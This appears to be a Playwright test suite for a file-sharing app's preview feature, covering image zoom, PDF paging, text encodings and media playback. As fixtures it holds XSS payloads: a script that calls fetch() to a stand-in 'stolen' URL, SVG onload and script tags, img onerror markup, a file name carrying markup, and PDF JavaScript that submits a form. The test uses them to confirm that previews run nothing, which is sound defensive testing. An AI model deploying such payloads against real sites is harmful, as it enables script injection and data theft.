import type { Page } from '@playwright/test';
import { pdf, png, textFile, wav } from '../../../dev/seed/generated-files.ts';
import { MIB } from '../../../worker/contract/units.ts';
import { atRest, violations } from '../acts/axe.ts';
import { expect, test } from '../acts/browser.ts';
import { recordFilm } from '../acts/film.ts';
import { pane, shared, show } from '../acts/preview-acts.ts';

const HACK = "window.top.__hacked = true; fetch('https://example.com/stolen')";

function recordRanges(page: Page): (string | undefined)[] {
  const ranges: (string | undefined)[] = [];
  page.on('request', (request) => {
    if (request.url().includes('/api/preview/')) ranges.push(request.headers().range);
  });
  return ranges;
}

test('zooms a picture by buttons, keys, double click and wheel, and hides its controls', async ({
  page,
  newVisitor,
}) => {
  const visitor = await shared(page, newVisitor, [png('photo.png', 900, 700), textFile('notes.txt', 'hello')]);
  await show(visitor, 'photo.png');
  const picture = visitor.getByRole('img', { name: 'photo.png' });
  await expect(picture).toBeVisible();
  const level = visitor.getByRole('status', { name: 'Zoom level' });
  await expect(level).toHaveText('100%');
  expect(await violations(visitor)).toEqual([]);

  await picture.hover();
  await visitor.getByRole('button', { name: 'Zoom in' }).click();
  await expect(level).toHaveText('150%');
  for (let presses = 0; presses < 4; presses++) await visitor.getByRole('button', { name: 'Zoom in' }).click();
  await expect(level).toHaveText('500%');
  await visitor.keyboard.press('0');
  await expect(level).toHaveText('100%');
  await visitor.keyboard.press('-');
  await visitor.keyboard.press('-');
  await expect(level).toHaveText('50%');
  await visitor.keyboard.press('0');

  await picture.dblclick();
  await expect(level).toHaveText('200%');
  await atRest(visitor);
  const boxBefore = await picture.boundingBox();
  const { x = 0, y = 0, width = 0, height = 0 } = (await pane(visitor, 'photo.png').boundingBox()) ?? {};
  await visitor.mouse.move(x + width / 2, y + height / 2);
  await visitor.mouse.down();
  await visitor.mouse.move(x + width / 2 + 40, y + height / 2, { steps: 3 });
  await visitor.mouse.up();
  await expect.poll(async () => ((await picture.boundingBox())?.x ?? 0) - (boxBefore?.x ?? 0)).toBeGreaterThan(30);
  await visitor.keyboard.press('ArrowRight');
  await expect(level).toHaveText('200%');
  await visitor.mouse.wheel(0, -100);
  await expect(level).not.toHaveText('200%');
  await picture.dblclick();
  await expect(level).toHaveText('100%');

  await pane(visitor, 'photo.png').focus();
  const controls = visitor.getByRole('toolbar', { name: 'Zoom' });
  await expect(controls).toHaveCSS('opacity', '0', { timeout: 6000 });
  await visitor.mouse.move(x + width / 2 + 10, y + height / 2);
  await expect(controls).toHaveCSS('opacity', '1');
});

test('loads a PDF page by page, and runs nothing in it', async ({ page, newVisitor }) => {
  const dialogs: string[] = [];
  const paper = pdf('paper.pdf', 20, MIB / 2, "app.alert\\('hacked'\\); this.submitForm\\('https://example.com/x'\\)");
  const visitor = await shared(page, newVisitor, [paper]);
  visitor.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  const ranges = recordRanges(visitor);
  const answers: Promise<number>[] = [];
  visitor.on('requestfinished', (request) => {
    if (request.url().includes('/api/preview/')) answers.push(request.sizes().then((sizes) => sizes.responseBodySize));
  });
  await show(visitor, 'paper.pdf');
  await expect(visitor.getByText('This is page 1', { exact: true })).toBeAttached();
  await expect(visitor.getByText('Page 1 of 20')).toBeVisible();
  await expect(visitor.getByText('This is page 20')).toHaveCount(0);
  expect(ranges.every((range) => /^bytes=\d+-\d+$/.test(range ?? ''))).toBe(true);
  const loaded = (await Promise.all(answers)).reduce((sum, size) => sum + size, 0);
  expect(loaded).toBeLessThan(3 * MIB);
  expect(await violations(visitor)).toEqual([]);

  const pages = visitor.getByRole('region', { name: 'Pages of paper.pdf' });
  await pages.focus();
  // The height of a page is known only after it was read, so the list may grow after the key press.
  await expect(async () => {
    await visitor.keyboard.press('End');
    await expect(visitor.getByText('This is page 20', { exact: true })).toBeAttached({ timeout: 5000 });
  }).toPass({ timeout: 60_000 });
  await expect(visitor.getByText('Page 20 of 20')).toBeVisible();
  expect(await visitor.getByRole('region', { name: /^Page \d/ }).count()).toBeLessThan(5);
  expect(dialogs).toEqual([]);
});

test('shows a long text by the megabyte without broken characters, and a text in Latin-1', async ({
  page,
  newVisitor,
}) => {
  const euros = `${'€'.repeat(60)}\n`.repeat(15_000);
  const visitor = await shared(page, newVisitor, [
    textFile('long.txt', `first line\n${euros}last line`),
    { ...textFile('latin.txt', ''), buffer: Buffer.from('Grüße aus Köln, schöne Füße\n'.repeat(20), 'latin1') },
    { ...textFile('program.txt', ''), buffer: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2, 0]) },
    textFile('data.json', '{"id":12345678901234567890,"tags":["a"]}', 'application/json'),
    textFile('code.ts', 'const answer: number = 42; // why\n'),
    textFile('mystery.xyz', 'only the server knows', 'application/json'),
  ]);
  const ranges = recordRanges(visitor);
  await show(visitor, 'long.txt');
  const text = visitor.getByRole('region', { name: 'Text of long.txt' });
  await expect(text).toContainText('first line');
  await expect(text).not.toContainText('last line');
  expect(ranges).toEqual([`bytes=0-${MIB - 1}`]);
  await visitor.getByRole('button', { name: 'Show more' }).click();
  await expect(visitor.getByText(/of 2.6\sMB/)).toContainText('2 MB');
  await visitor.getByRole('button', { name: 'Show more' }).click();
  await expect(text).toContainText('last line');
  await expect(visitor.getByRole('button', { name: 'Show more' })).toHaveCount(0);
  await expect(visitor.getByText('15,002 lines')).toBeVisible();
  await text.evaluate((element) => element.scrollTo(0, element.scrollHeight));
  await expect(text.locator('[data-number="15002"]')).toHaveText('last line');
  expect(await text.evaluate((element) => element.textContent.includes('\uFFFD'))).toBe(false);
  expect(await violations(visitor)).toEqual([]);

  await show(visitor, 'latin.txt');
  await expect(visitor.getByRole('region', { name: 'Text of latin.txt' })).toContainText('Grüße aus Köln, schöne Füße');
  await show(visitor, 'program.txt');
  await expect(visitor.getByText('This kind of file can’t be previewed.')).toBeVisible();
  await show(visitor, 'data.json');
  const json = visitor.getByRole('region', { name: 'Text of data.json' });
  await expect(json).toContainText('"id": 12345678901234567890');
  await visitor.getByRole('button', { name: 'Raw' }).click();
  await expect(json).toContainText('{"id":12345678901234567890,"tags":["a"]}');
  await show(visitor, 'code.ts');
  await expect(visitor.getByText('// why', { exact: true })).toHaveClass(/italic/);
  expect(await violations(visitor)).toEqual([]);

  ranges.length = 0;
  await show(visitor, 'mystery.xyz');
  await expect(visitor.getByText('only the server knows')).toBeVisible();
  expect(ranges[0]).toBe('bytes=0-1023');
});

test('plays a film and a sound with the controls of the page, and shows the whole picture', async ({
  page,
  newVisitor,
}) => {
  await page.goto('/');
  const film = await recordFilm(page, 'film.webm');
  const visitor = await shared(page, newVisitor, [film, wav('waves.wav', 3)]);
  await visitor.setViewportSize({ width: 1024, height: 1200 });
  await show(visitor, 'film.webm');
  const video = pane(visitor, 'film.webm').locator('video');
  await expect(video).toHaveJSProperty('videoHeight', 180);
  await expect(video).toHaveJSProperty('controls', false);
  const proportion = () => video.evaluate(({ clientWidth, clientHeight }) => clientWidth / clientHeight);
  await expect.poll(proportion).toBeCloseTo(16 / 9, 1);
  expect(await violations(visitor)).toEqual([]);
  // The first frame of the film is black.
  await expect.poll(() => video.evaluate(isColourful)).toBe(true);
  const position = pane(visitor, 'film.webm').getByRole('slider', { name: 'Position' });
  await expect(position).toHaveAttribute('aria-valuetext', /^0:00 of /);
  const startedAt = video.evaluate(
    (element: HTMLVideoElement) =>
      new Promise<number>((resolve) => {
        element.addEventListener('playing', () => resolve(element.currentTime), { once: true });
      }),
  );
  await visitor.getByRole('button', { name: 'Play' }).click();
  expect(await startedAt, 'where the film starts').toBeLessThan(0.5);
  await expect.poll(() => video.evaluate(({ currentTime }: HTMLVideoElement) => currentTime)).toBeGreaterThan(0);
  await visitor.keyboard.press('m');
  await expect(video).toHaveJSProperty('muted', true);

  await show(visitor, 'waves.wav');
  const sound = pane(visitor, 'waves.wav');
  await expect(sound.getByRole('slider', { name: 'Position' })).toHaveAttribute('aria-valuetext', '0:00 of 0:03');
  await expect(sound.getByText('waves.wav', { exact: true })).toBeVisible();
  expect(await violations(visitor)).toEqual([]);
});

function isColourful(video: HTMLVideoElement): boolean {
  const canvas = document.createElement('canvas');
  [canvas.width, canvas.height] = [1, 1];
  const context = canvas.getContext('2d') as CanvasRenderingContext2D;
  context.drawImage(video, 0, 0, 1, 1);
  return context
    .getImageData(0, 0, 1, 1)
    .data.slice(0, 3)
    .some((value) => value > 40);
}

test('shows harmful files without running them', async ({ page, newVisitor }) => {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200" onload="${HACK}"><script>${HACK}</script><rect width="200" height="200" fill="teal"/><image href="https://example.com/pixel.png"/></svg>`;
  const html = `<img src=x onerror="${HACK}"><script>${HACK}</script>`;
  const markup = '<img src=x onerror=alert(1)>.txt';
  const visitor = await shared(page, newVisitor, [
    textFile('drawing.svg', svg, 'image/svg+xml'),
    textFile('page.html', html, 'text/html'),
    textFile('disguised.png', html, 'image/png'),
    textFile(markup, 'harmless', 'text/plain'),
    textFile('no picture.png', 'nothing', 'text/html'),
    { ...textFile('broken.pdf', html, 'application/pdf') },
    { ...textFile('broken.mp4', html, 'video/mp4') },
  ]);
  const dialogs: string[] = [];
  visitor.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  await show(visitor, 'drawing.svg');
  await expect(visitor.getByRole('img', { name: 'drawing.svg' })).toHaveJSProperty('naturalWidth', 200);
  await show(visitor, 'page.html');
  await expect(visitor.getByText(html)).toBeVisible();
  await show(visitor, 'disguised.png');
  await expect(visitor.getByText('Failed to load image')).toBeVisible();
  expect(await violations(visitor)).toEqual([]);
  await show(visitor, markup);
  await expect(visitor.getByRole('region', { name: `Text of ${markup}` })).toContainText('harmless');
  await show(visitor, 'broken.pdf');
  await expect(visitor.getByText('This PDF could not be read. It may be damaged.')).toBeVisible();
  await show(visitor, 'broken.mp4');
  await expect(visitor.getByText('Your browser cannot play this video.')).toBeVisible();
  // Waits until a script in the file would have run.
  await visitor.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
  expect(await visitor.evaluate(() => '__hacked' in window)).toBe(false);
  expect(dialogs).toEqual([]);
});
